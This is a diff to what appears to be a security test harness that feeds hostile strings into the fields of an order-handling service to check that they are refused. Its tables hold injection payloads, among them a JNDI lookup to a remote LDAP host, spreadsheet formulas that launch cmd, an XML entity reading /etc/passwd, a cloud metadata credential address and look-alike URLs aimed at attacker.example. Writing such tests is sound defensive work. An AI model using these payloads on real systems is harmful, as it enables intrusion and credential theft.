@@ -8,13 +8,14 @@ from functools import partial
 from typing import Any
 
 from orders.guard import Limits
+from orders.guard.addresses import HttpsUrl
 
-from .fields import LISTS, fields, kinds_at, nullable
+from .fields import LISTS, Kind, fields, kinds_at, nullable
 from .harness import Attack, Carrier, Event, Function, Model, Place
 
 PAYLOAD = ("payload",)
 
-#: Refused wherever text is taken: name, why, text.
+#: Refused wherever text is taken: name, why, text. So is one that is too long.
 NEVER = (
     ("nul", "ends the string for code written in C", "a\x00b"),
     ("escape", "drives the terminal of whoever reads a log", "\x1b[2J\x1b]0;owned\x07"),
@@ -29,7 +30,6 @@ NEVER = (
     ("tag-characters", "instructions that only a machine reads", "hi\U000e0069\U000e0067"),
     ("noncharacter", "ends or breaks an XML document", "a\uffff"),
     ("marks", "takes the square of its length to sort", "a" + "\u0301\u0316" * 400),
-    ("long", "fills memory, logs and indexes", "a" * 100_000),
 )
 #: Text that only free text may hold; in anything else it is an injection.
 MEANT = (
@@ -46,9 +46,15 @@ MEANT = (
     ("template", "is evaluated by a template engine", "{{7*7}}"),
     ("expression", "is looked up by a logger", "${jndi:ldap://203.0.113.9/a}"),
     ("formula", "runs in a spreadsheet", '=HYPERLINK("https://203.0.113.9","x")'),
+    ("formula-sign", "runs in a spreadsheet, which takes a sign for a formula", "@SUM(1)+cmd|' /C calc'!A0"),
+    ("formula-wide", "runs in a spreadsheet once it is normalised", "\uff1dcmd|' /C calc'!A0"),
+    ("formula-split", "runs in a spreadsheet that splits at it", "x;\"=cmd|' /C calc'!A0"),
     ("script", "runs in a browser", "<script>alert(1)</script>"),
     ("entity", "reads a file through an XML parser", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
     ("metadata-address", "asks for the role's credentials", "http://169.254.169.254/latest/meta-data/"),
+    ("address", "asks a host that nobody named", "https://203.0.113.9/"),
+    ("address-number", "asks the same host, written as a number", "https://3405803785/"),
+    ("address-userinfo", "shows one host and asks another", "https://example.com@203.0.113.9/"),
     ("format", "formats what it should not", "%s%s%n{0.__class__}"),
     ("look-alike", "equals another name to the eye only", "\u0430dmin"),
     ("full-width", "becomes other characters when it is normalised", "\uff1cscript\uff1e"),
@@ -85,23 +91,50 @@ UNKNOWN: tuple[tuple[str, str, str, Any], ...] = (
 def attacks(function: Function) -> Iterator[Attack]:
     """Every attack on one function."""
     model, sample, carrier = function.model(), function.sample(), function.carrier()
+    limits = function.handler().source.limits
     declared: list[Place] = [(key,) for key in fields(model)]
     for place in dict.fromkeys([*carrier.values(model, sample), *declared]):
-        yield from _on_field(model, sample, carrier, place)
-    for name, why, stages, text in _bodies(carrier.payload(sample), function.handler().source.limits):
-        yield Attack(f"body-{name}", why, stages, partial(_sent, carrier, sample, text))
+        yield from _on_field(model, sample, carrier, place, limits)
+    for name, why, stages, text in _bodies(carrier.payload(sample), limits):
+        if carrier.body(sample, text()) is not None:
+            yield Attack(f"body-{name}", why, stages, partial(_sent, carrier, sample, text))
     yield from carrier.own(model, sample)
 
 
-def _sent(carrier: Carrier, sample: Event, text: Callable[[], str]) -> Event:
+def _sent(carrier: Carrier, sample: Event, text: Callable[[], str]) -> Event | None:
     return carrier.body(sample, text())
 
 
-def _on_field(model: Model, sample: Event, carrier: Carrier, place: Place) -> Iterator[Attack]:
+def texts(found: list[Kind], most: int) -> Iterator[tuple[str, str, str]]:
+    """Every hostile text that no type in `found` takes on purpose, to `most` characters: name, why, text."""
+    free = [kind.free for kind in found if kind.free]
+    yield from NEVER
+    yield from (text for text in MEANT if all(text[0] in mark.refuses for mark in free))
+    yield from () if any(mark.breaks for mark in free) else BROKEN
+    for note in (note for kind in found for note in kind.notes if isinstance(note, HttpsUrl)):
+        yield from _addresses(min(note.hosts))
+    # Valid base64, apart from its length.
+    long = max([100_000, *(kind.longest // 4 * 4 + 4 for kind in found)])
+    if long <= most:
+        yield "long", "fills memory, logs and indexes", "a" * long
+
+
+def _addresses(named: str) -> Iterator[tuple[str, str, str]]:
+    """Addresses that only seem to be on a host which the model names."""
+    host = named.removeprefix("*.").partition(":")[0]
+    yield "url-scheme", "goes over the wire in clear", f"http://{host}/"
+    yield "url-userinfo", "shows one host and asks another", f"https://{host}@203.0.113.9/"
+    yield "url-backslash", "parsers disagree about where the host ends", f"https://203.0.113.9\\@{host}/"
+    yield "url-above", "another host, which starts alike", f"https://{host}.attacker.example/"
+    yield "url-beside", "another host, which ends alike", f"https://attacker-{host}/"
+    yield "url-port", "another program on that host", f"https://{host}:1/"
+    yield "url-dots", "leaves the folder", f"https://{host}/a/%2e%2E/b"
+    yield "url-escape", "adds a header where it is decoded", f"https://{host}/?a=%0d%0aSet-Cookie:b"
+
+
+def _on_field(model: Model, sample: Event, carrier: Carrier, place: Place, limits: Limits) -> Iterator[Attack]:
     found, stages, at = kinds_at(model, place), (carrier.stage(place),), ".".join(map(str, place))
-    planted: list[tuple[str, str, Any]] = list(NEVER)
-    planted += [] if any(kind.free for kind in found) else MEANT
-    planted += [] if any(kind.free and kind.free.breaks for kind in found) else BROKEN
+    planted: list[tuple[str, str, Any]] = list(texts(found, limits.bytes // 2))
     for name, why, value, types in VALUES:
         if not any(kind.origin in (*types, Any, object) for kind in found):
             planted.append((name, why, value))
